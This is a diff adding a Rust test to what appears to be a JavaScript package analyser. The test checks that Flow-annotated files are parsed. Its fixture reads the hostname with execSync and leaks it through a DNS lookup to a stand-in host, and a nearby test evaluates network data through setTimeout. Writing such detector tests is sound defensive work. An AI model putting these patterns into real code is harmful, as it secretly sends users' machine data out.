@@ -545,3 +545,13 @@ fn timer_with_a_bound_function_runs_no_network_code() {
     let f = run("const net = require('net'); const s = net.connect({}); s.on('data', (d) => { setTimeout('run(' + d + ')', 10); });");
     assert!(f.dynamic_code.iter().any(|d| d.from_network && d.api == "setTimeout"), "{:#?}", f.dynamic_code);
 }
+
+#[test]
+fn flow_files_are_read_as_typescript_not_left_unparsed() {
+    // node-machine-id 1.1.12's index.js: oxc refuses the `@flow` pragma outright.
+    let src = "/* @flow */\nimport {execSync} from 'child_process';\nlet {platform}: Object = process;\nfunction id(original: boolean): string {\n  const out: string = execSync('hostname').toString();\n  return require('os').hostname() + out;\n}\nrequire('dns').lookup(id(false) + '.x.example.top', () => {});\n";
+    let f = run(src);
+    assert!(f.not_analysed.is_none(), "{:?}", f.diagnostics);
+    assert!(f.diagnostics.iter().any(|d| d.contains("Flow")), "{:?}", f.diagnostics);
+    assert!(!f.flows.is_empty(), "the file is analysed: {:?}", f.flows);
+}
